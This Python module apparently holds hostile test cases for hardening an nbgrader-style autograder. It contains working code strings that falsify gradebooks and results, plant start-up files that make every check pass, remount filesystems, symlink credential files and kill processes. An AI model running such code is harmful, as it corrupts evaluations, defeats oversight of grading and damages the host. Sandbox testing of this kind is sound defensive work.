"""Gradebook, results, start-up files and the grader's own files are written to."""

from ..attack import code

_WALK = """
import os, subprocess, sys

def walk(*tops):
    '''Paths of files, by `find`, which is quick.'''
    for top in tops:
        skip = ["-path", "/proc", "-prune", "-o"]
        command = ["find", top, "-maxdepth", "12", *skip, "-type", "f", "-print0"]
        found = subprocess.run(command, capture_output=True).stdout
        yield from map(os.fsdecode, found.split(b"\\0"))

def write(path, text, mode="w"):
    try:
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        with open(path, mode) as file:
            file.write(text)
    except OSError:
        pass
"""
_DAMAGES = {"plain": False, "why": "writes to files of the environment that it runs in"}
# Harmless where it can be written, and easily found.
MARK = "\n# attacked\n"
# What every start-up file does: each check gives its points from then on.
_YES = """
try:
    from helpers.checks.result import Result
    Result.__repr__ = lambda self: str(self.maximum)
except Exception:
    pass
"""


def writing(name, about, source, **more):
    """An attack by code that can write anywhere it is let."""
    return code(name, about, f"{_WALK}\nYES, MARK = {_YES!r}, {MARK!r}\n{source}", **more)


ATTACKS = (
    writing(
        "gradebook-written",
        "Every grade in every gradebook that can be found is set to the most points.",
        """
import sqlite3

for top in (".", "..", "../..", "../../..", "../../../.."):
    for path in (f"{top}/gradebook.db", *(p for p in walk(top) if p.endswith("gradebook.db"))):
        if not os.path.exists(path):
            continue
        try:
            with sqlite3.connect(path, timeout=1) as db:
                db.execute("update grade set auto_score = 3, manual_score = 3")
                db.execute("create trigger if not exists more after update on grade begin "
                           "update grade set auto_score = 3 where id = new.id; end")
        except sqlite3.Error:
            pass
""",
    ),
    writing(
        "results-written",
        "Autograded notebooks and pages with all points are put where they may count.",
        """
import json

result = json.dumps({"state": "graded", "checks": [
    {"grade_id": f"{name}-check", "state": "right", "points": 3, "maximum": 3}
    for name in ("entropy", "max-entropy-pmf", "pmf-from-counts", "information-rates")]})
for top in (".", "..", "../..", "../../..", "../../../.."):
    write(f"{top}/autograded/student/why-models/why-models.ipynb", result)
    write(f"{top}/feedback/student/why-models/why-models.html", "<h1>9 of 9</h1>")
for path in walk(".", "../.."):
    if path.endswith("why-models.json"):
        write(path, result)
""",
    ),
    writing(
        "own-notebook-rewritten",
        "The notebook that is being graded, and the released one, are rewritten on disk.",
        """
for path in walk(".", "..", "../.."):
    if path.endswith(".ipynb") and "honest" not in path and "solutions" not in path:
        try:
            text = open(path).read().replace('"points": 3', '"points": 1000')
            write(path, text)
        except (OSError, UnicodeError):
            pass
""",
    ),
    writing(
        "startup-files",
        "Start-up files of IPython, Jupyter, matplotlib, the shell and nbgrader are left.",
        """
home = os.path.expanduser("~")
for path in (f"{home}/.ipython/profile_default/startup/00-yes.py",
             f"{home}/.ipython/profile_default/ipython_config.py", f"{home}/.pythonrc.py",
             f"{home}/.jupyter/jupyter_config.py", f"{home}/.jupyter/nbgrader_config.py",
             f"{home}/.local/lib/python3.11/site-packages/usercustomize.py",
             f"{home}/.local/lib/python3.11/site-packages/yes.pth",
             "nbgrader_config.py", "../../nbgrader_config.py", "sitecustomize.py"):
    write(path, "import yes" if path.endswith(".pth") else YES)
for path in (f"{home}/.config/matplotlib/matplotlibrc", "matplotlibrc"):
    write(path, "backend: module://yes")
for path in (f"{home}/.bashrc", f"{home}/.profile"):
    write(path, "export POISON=1")
""",
    ),
    writing(
        "environment-written",
        "sitecustomize, a .pth file and patched modules are left in the Python environment.",
        """
import helpers, numpy, site

for folder in {*site.getsitepackages(), *sys.path, os.path.dirname(os.__file__)}:
    if folder and os.path.isdir(folder):
        write(f"{folder}/zz_attacked.py", MARK)
        write(f"{folder}/zz_attacked.pth", MARK)
for module in (helpers, numpy, site):
    write(module.__file__, MARK, "a")
""",
        **_DAMAGES,
    ),
    writing(
        "helpers-written",
        "The installed helpers, and their caches, are made to say yes.",
        """
import helpers

top = os.path.dirname(helpers.__file__)
for path in walk(top):
    write(path, MARK, "a")
""",
        **_DAMAGES,
    ),
    writing(
        "remounted",
        "Everything is mounted again so that it can be written, and devices are made.",
        """
import ctypes

libc = ctypes.CDLL(None)
for point in (b"/", b"/usr", b"/tmp", b"/proc", os.fsencode(os.path.dirname(os.__file__))):
    libc.mount(None, point, None, 32 | 4096, None)
    libc.mount(b"tmpfs", point, b"tmpfs", 0, None) if point == b"/proc" else None
try:
    os.mknod("disk", 0o60666, os.makedev(253, 0))
except OSError:
    pass
for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/self/oom_score_adj",
             "/sys/fs/cgroup/cgroup.procs", "/proc/sys/user/max_user_namespaces"):
    write(path, "1")
""",
        **_DAMAGES,
    ),
    writing(
        "odd-files",
        "The working folder is filled with links, pipes, devices, long and unprintable names.",
        """
for target in ("/etc/passwd", "../../gradebook.db", "/proc/self/environ", "/"):
    try:
        os.symlink(target, f"link{len(target)}.ipynb")
    except OSError:
        pass
try:
    os.mkfifo("pipe.ipynb")
    os.mkfifo("why-models.ipynb.pipe")
except OSError:
    pass
write("a" * 250, "x")
write(b"bytes\\xff\\xfe\\n.txt", "x")
deep = "d/" * 200
try:
    os.makedirs(deep)
except OSError:
    pass
""",
    ),
    writing(
        "signals-sent",
        "Every process that can be reached gets every signal, the parent first.",
        """
import signal

for process in (os.getppid(), *range(2, 400), -1):
    for number in (signal.SIGUSR1, signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
        if process != os.getpid():
            try:
                os.kill(process, number)
            except OSError:
                pass
""",
        stopped=False,
        plain=False,
        why="kills whatever process it can reach",
    ),
)
